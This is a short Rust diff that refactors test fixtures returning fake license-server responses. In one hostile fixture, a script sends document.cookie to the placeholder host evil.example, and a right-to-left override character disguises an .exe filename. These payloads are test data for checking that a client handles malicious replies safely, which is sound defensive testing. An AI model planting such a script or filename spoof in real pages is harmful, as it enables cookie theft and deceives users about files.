@@ -81,7 +81,7 @@ fn hostile(ago: f64) -> Answers {
     if ago < 0.3 {
         let page = r#"<h1>502 Bad Gateway</h1><script>fetch("https://evil.example/?"+document.cookie)</script>"#;
         let error = json!({"success": false, "error": format!("{page}\u{202e}gnp.exe")});
-        return Answers { version: None, licenses: Licenses::FailsAtLicense(Fault::Body { status: 500, json: error }) };
+        return Answers::of(None, Licenses::FailsAtLicense(Fault::Body { status: 500, json: error }));
     }
     if ago > 1.0 {
         let terms = Terms {
@@ -164,5 +164,5 @@ fn rtl(_: f64) -> Answers {
         "modules": ["livechat-enterprise"],
         "tag": {"name": "Omnichannel add-on", "color": "#0C8F8F"},
     });
-    Answers { version: None, licenses: Licenses::Get(json!({"licenses": [first, second], "success": true})) }
+    Answers::of(None, Licenses::Get(json!({"licenses": [first, second], "success": true})))
 }
